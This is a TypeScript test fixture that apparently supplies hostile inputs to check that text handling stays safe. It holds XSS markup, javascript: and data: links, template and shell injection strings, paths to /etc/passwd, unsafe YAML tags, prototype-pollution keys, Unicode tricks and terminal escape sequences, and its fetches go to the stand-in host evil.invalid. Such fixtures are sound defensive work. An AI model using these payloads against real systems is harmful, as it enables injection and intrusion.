/**
 * For tests: what somebody might put where text is expected, in the hope that it becomes more than text. What would
 * run calls `canary()`, which tests watch for; what would be fetched is at `evil.invalid`.
 */

const RUN = 'canary()';
const MARKUP = [
  ...[`<script>${RUN}</script>`, `<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>`, `</script><script>${RUN}</script>`],
  ...[`<img src=x onerror=${RUN}>`, `<img src=//evil.invalid/i.png>`, `"><img src=x onerror=${RUN}>`],
  ...[`'><img src=x onerror='${RUN}'>`, `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`],
  ...[
    `<svg><a xlink:href="javascript:${RUN}"><text x=9 y=9>a</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,x#y"/>`,
  ],
  ...[`<math><mtext><img src=x onerror=${RUN}></mtext></math>`, `<iframe src="javascript:${RUN}"></iframe>`],
  ...[`<iframe srcdoc="<script>${RUN}</script>"></iframe>`, `<object data="data:text/html,x"></object>`],
  ...[`<embed src="//evil.invalid/e">`, `<body onload=${RUN}>`, `<details open ontoggle=${RUN}>`],
  ...[`<input autofocus onfocus=${RUN}>`, `<video><source onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}>`],
  ...[
    `<form action="javascript:${RUN}"><button>go</button></form>`,
    `<button formaction="javascript:${RUN}">go</button>`,
  ],
  ...[`<a href="javascript:${RUN}">a</a>`, `<a href=" java\tscript:${RUN}">a</a>`, `<base href="//evil.invalid/">`],
  ...[`<meta http-equiv=refresh content="0;url=//evil.invalid/">`, `<link rel=stylesheet href=//evil.invalid/s.css>`],
  ...[
    `<style>@import "//evil.invalid/i.css"</style>`,
    `<style>*{display:none}</style>`,
    `<template><b>x</b></template>`,
  ],
  ...[`<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<!--><img src=x onerror=${RUN}>-->`],
  ...[
    `<![CDATA[<img src=x onerror=${RUN}>]]>`,
    `<div style="background:url(//evil.invalid/b)">`,
    `" onmouseover="${RUN}" x="`,
  ],
  ...[`' autofocus onfocus='${RUN}' '`, `<marquee onstart=${RUN}>`, `<kubetab-lab run commands=x></kubetab-lab>`],
  ...[`&lt;img src=x onerror=${RUN}&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `\\u003cscript\\u003e${RUN}`],
];
const LINKS = [
  ...[`javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `javascript://%0a${RUN}`, `data:text/html,<script>${RUN}</script>`],
  ...[
    `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==`,
    `vbscript:${RUN}`,
    '//evil.invalid/',
    'https://evil.invalid/',
  ],
  ...[
    `blob:https://evil.invalid/x`,
    `file:///etc/passwd`,
    '../../../../etc/passwd',
    '[a](javascript:canary())',
    '![a](//evil.invalid/m.png)',
  ],
];
const TEMPLATES = [
  ...['{{constructor.constructor("canary()")()}}', '#{canary()}', '<%= canary() %>', '{canary()}'],
  ...['{canary.call`1`}', '<Task id={canary()} />', 'import x from "//evil.invalid/x.js"', 'export default canary()'],
  ...['{canary()}', '`{canary()}`', '[[{canary()}]]'].map((text) => text.replace('{', '${')),
  ...['{found}{expected}{where}', "$&$`$'$1", '%s%n%d', '`<img src=x onerror=canary()>`'],
];
const KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '{"__proto__":{"polluted":1}}'];
const YAML = [
  ...[
    '!!js/function "function(){canary()}"',
    '!<tag:yaml.org,2002:js/undefined> x',
    '&a [*a, *a]',
    '<<: *evil',
    '--- | >',
    '? !!binary x',
  ],
];
const SHELL = [
  '$(canary)',
  '`canary`',
  '; canary',
  '| canary',
  "'; canary; '",
  '"; canary; "',
  '=cmd|"/c calc"!A1',
  '@SUM(1)',
];
const UNICODE = [
  ...[
    '\u202egpj.exe',
    'a\u202db',
    '\u2066a\u2067b\u2068c\u2069',
    '\u200b\u200c\u200d\u2060',
    '\ufeffx',
    '\u061cx',
    'مرحبا بالعالم',
    'שלום',
  ],
  ...[
    '\u2028canary()\u2029',
    'e\u0301\u0323\u0327'.repeat(9),
    'Z͑ͫ̓ͪ̂ͫ̽͏̴̙',
    '👩‍👩‍👧‍👦🏳️‍🌈',
    '\ud800',
    '\udc00x',
    '\ufffe\uffff',
    '＜img src=x onerror=canary()＞',
  ],
];
const ESC = '\x1b';
const ST = `${ESC}\\`;
/** Escapes that would draw, answer, rename, copy, link, or change what keys send. */
export const TERMINAL: readonly string[] = [
  ...[
    '[c',
    '[>c',
    '[=c',
    '[5n',
    '[6n',
    '[?6n',
    '[?15n',
    '[?996n',
    '[18t',
    '[14t',
    '[21t',
    '[20t',
    '[>q',
    '[?1$p',
    '[4$p',
    '[x',
  ],
  ...[
    '[?1000h',
    '[?1002;1006h',
    '[?1003h',
    '[?1004h',
    '[?1h',
    '=',
    '[?66h',
    '[?9001h',
    '[>1u',
    '[>4;2m',
    '[?2004h',
    '[?1049h',
  ],
  ...[
    '[31m',
    '[8m',
    '[?25l',
    '[2J',
    '[3J',
    '[1;5r',
    '[20h',
    '[4h',
    '(0',
    '[!p',
    'c',
    '#8',
    '[?5h',
    '[?3h',
    '[9999;9999H',
  ],
].map((tail) => `${ESC}${tail}`);
const STRINGS = [
  ...[
    ']0;evil\x07',
    ']2;evil\x07',
    ']1;evil\x07',
    ']l evil',
    ']4;1;?\x07',
    ']10;?\x07',
    ']11;?\x07',
    ']52;c;ZXZpbA==\x07',
    ']52;c;?\x07',
  ],
  ...[
    `]8;;javascript:${RUN}\x07link`,
    `]8;;https://evil.invalid/${ST}link`,
    `]7;file://evil.invalid/${ST}`,
    `]9;evil${ST}`,
  ],
  ...[
    `]777;notify;evil;evil${ST}`,
    `]1337;File=inline=1:AAAA\x07`,
    `]133;A${ST}`,
    `P$qm${ST}`,
    `P+q544e${ST}`,
    `Pq#0;2;0;0;0#0~~${ST}`,
  ],
  ...[`_Gf=100;AAAA${ST}`, `^private${ST}`, `]104${ST}`, `]555;x${ST}`, 'Z', `Xsos${ST}`],
].map((tail) => `${ESC}${tail}`);
const CONTROLS = [
  '\0',
  '\x05',
  '\x07'.repeat(3),
  '\b\b\bevil',
  '\revil',
  '\x9b6n',
  '\x9d0;evil\x9c',
  '\x90$qm\x9c',
  '\x7f',
  'a\vb\fc',
  '\r\nX-Evil: 1',
];

/** With a place for what makes each known again. */
export const PAYLOADS: readonly string[] = [
  ...MARKUP,
  ...LINKS,
  ...TEMPLATES,
  ...KEYS,
  ...YAML,
  ...SHELL,
  ...UNICODE,
  ...TERMINAL,
  ...STRINGS,
  ...CONTROLS,
  'A'.repeat(20_000),
  `${ESC}P never ends`,
  `${ESC}]0;never ends`,
  `${'<b>'.repeat(500)}deep`,
];

/** Without what a line of a command, an argument or a name could not hold. */
export const PRINTABLE: readonly string[] = PAYLOADS.filter(
  (text) => text.length < 1000 && text.isWellFormed() && !/[\0-\x1f\x7f-\x9f]/.test(text),
);
